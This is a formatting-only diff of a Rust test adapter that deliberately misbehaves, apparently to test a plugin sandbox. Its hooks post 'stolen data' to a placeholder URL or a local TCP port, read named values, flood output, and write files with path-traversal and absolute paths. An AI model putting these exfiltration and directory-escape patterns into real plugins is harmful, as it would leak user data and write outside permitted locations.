@@ -49,13 +49,17 @@ impl Adapter for Hostile {
             Hook::execute("sleep", sleep).executor().topic("sleep"),
             Hook::execute("hog", hog).executor().topic("hog"),
             Hook::execute("panic", panic).executor().topic("panic"),
-            Hook::execute("exfiltrate", exfiltrate).executor().topic("exfiltrate"),
+            Hook::execute("exfiltrate", exfiltrate)
+                .executor()
+                .topic("exfiltrate"),
             Hook::execute("tcp", tcp).executor().topic("tcp"),
             Hook::execute("steal", steal).executor().topic("steal"),
             Hook::execute("snoop", snoop).executor().topic("snoop"),
             Hook::execute("flood", flood).executor().topic("flood"),
             Hook::execute("leak", leak).executor().topic("leak"),
-            Hook::execute("recurse", recurse).executor().topic("recurse"),
+            Hook::execute("recurse", recurse)
+                .executor()
+                .topic("recurse"),
             Hook::execute("exit", exit).executor().topic("exit"),
             Hook::setup("spin_setup", spin_setup)
                 .consumer()
@@ -114,13 +118,19 @@ fn panic(_ctx: &Context, _params: Value) -> Result<Value> {
 }
 
 fn exfiltrate(_ctx: &Context, params: Value) -> Result<Value> {
-    let url = params.get("url").and_then(Value::as_str).unwrap_or("http://example.com/");
+    let url = params
+        .get("url")
+        .and_then(Value::as_str)
+        .unwrap_or("http://example.com/");
     let resp = Request::post(url).body("stolen data").send()?;
     Ok(json!({"status": resp.status, "body": resp.text()}))
 }
 
 fn tcp(_ctx: &Context, params: Value) -> Result<Value> {
-    let addr = params.get("addr").and_then(Value::as_str).unwrap_or("127.0.0.1:22");
+    let addr = params
+        .get("addr")
+        .and_then(Value::as_str)
+        .unwrap_or("127.0.0.1:22");
     let mut sender = TcpLineSender::connect(addr)?;
     sender.send_line(b"stolen data")?;
     Ok(json!({"sent": true}))
@@ -130,7 +140,11 @@ fn steal(_ctx: &Context, params: Value) -> Result<Value> {
     let names: Vec<String> = params
         .get("names")
         .and_then(Value::as_array)
-        .map(|a| a.iter().filter_map(|v| v.as_str().map(String::from)).collect())
+        .map(|a| {
+            a.iter()
+                .filter_map(|v| v.as_str().map(String::from))
+                .collect()
+        })
         .unwrap_or_default();
     let got: serde_json::Map<String, Value> = names
         .into_iter()
@@ -157,7 +171,10 @@ fn snoop(_ctx: &Context, _params: Value) -> Result<Value> {
 }
 
 fn flood(_ctx: &Context, params: Value) -> Result<Value> {
-    let lines = params.get("lines").and_then(Value::as_u64).unwrap_or(10_000);
+    let lines = params
+        .get("lines")
+        .and_then(Value::as_u64)
+        .unwrap_or(10_000);
     let size = params.get("size").and_then(Value::as_u64).unwrap_or(10_000) as usize;
     let line = "x".repeat(size);
     for _ in 0..lines {
@@ -188,31 +205,52 @@ fn exit(_ctx: &Context, _params: Value) -> Result<Value> {
 }
 
 fn file(path: &str, contents: impl Into<Vec<u8>>) -> File {
-    File { path: path.into(), contents: contents.into() }
+    File {
+        path: path.into(),
+        contents: contents.into(),
+    }
 }
 
 fn scaffold_escape(_ctx: &Context) -> Result<Vec<File>> {
-    Ok(vec![file("README.md", "fine"), file("../../../escaped.txt", "escaped")])
+    Ok(vec![
+        file("README.md", "fine"),
+        file("../../../escaped.txt", "escaped"),
+    ])
 }
 
 fn scaffold_absolute(_ctx: &Context) -> Result<Vec<File>> {
-    Ok(vec![file("README.md", "fine"), file("/tmp/meshroom-hostile-absolute.txt", "escaped")])
+    Ok(vec![
+        file("README.md", "fine"),
+        file("/tmp/meshroom-hostile-absolute.txt", "escaped"),
+    ])
 }
 
 fn scaffold_huge(_ctx: &Context) -> Result<Vec<File>> {
-    Ok(vec![file("README.md", "fine"), file("huge.bin", vec![b'x'; 24 << 20])])
+    Ok(vec![
+        file("README.md", "fine"),
+        file("huge.bin", vec![b'x'; 24 << 20]),
+    ])
 }
 
 fn scaffold_many(_ctx: &Context) -> Result<Vec<File>> {
-    Ok((0..5000).map(|i| file(&format!("f/{i}.txt"), "x")).collect())
+    Ok((0..5000)
+        .map(|i| file(&format!("f/{i}.txt"), "x"))
+        .collect())
 }
 
 fn scaffold_sneaky(_ctx: &Context) -> Result<Vec<File>> {
-    Ok(vec![file("a/./b", "x"), file("a//c", "x"), file("..\\x", "x")])
+    Ok(vec![
+        file("a/./b", "x"),
+        file("a//c", "x"),
+        file("..\\x", "x"),
+    ])
 }
 
 fn definition(name: &str, text: impl Into<String>) -> ProductDefinition {
-    ProductDefinition { name: name.into(), definition: text.into() }
+    ProductDefinition {
+        name: name.into(),
+        definition: text.into(),
+    }
 }
 
 fn pull_escape(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
@@ -220,7 +258,10 @@ fn pull_escape(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
 }
 
 fn pull_absolute(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
-    Ok(vec![definition("/tmp/meshroom-hostile-evil", "name: evil\n")])
+    Ok(vec![definition(
+        "/tmp/meshroom-hostile-evil",
+        "name: evil\n",
+    )])
 }
 
 fn pull_huge(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
@@ -230,15 +271,23 @@ fn pull_huge(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
 }
 
 fn pull_many(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
-    Ok((0..5000).map(|i| definition(&format!("p{i}"), format!("name: p{i}\n"))).collect())
+    Ok((0..5000)
+        .map(|i| definition(&format!("p{i}"), format!("name: p{i}\n")))
+        .collect())
 }
 
 fn pull_invalid(_ctx: &Context) -> Result<Vec<ProductDefinition>> {
     Ok(vec![
         definition("broken", "- just\n- a list\n"),
         definition("mismatch", "name: someone_else\n"),
-        definition("with_adapter", "name: with_adapter\nadapter: ../../hostile.wasm\n"),
-        definition("hostile_ok", "name: hostile_ok\ndescription: the only valid one\nconsumes:\n  events:\n    - mode: push\n"),
+        definition(
+            "with_adapter",
+            "name: with_adapter\nadapter: ../../hostile.wasm\n",
+        ),
+        definition(
+            "hostile_ok",
+            "name: hostile_ok\ndescription: the only valid one\nconsumes:\n  events:\n    - mode: push\n",
+        ),
     ])
 }
 
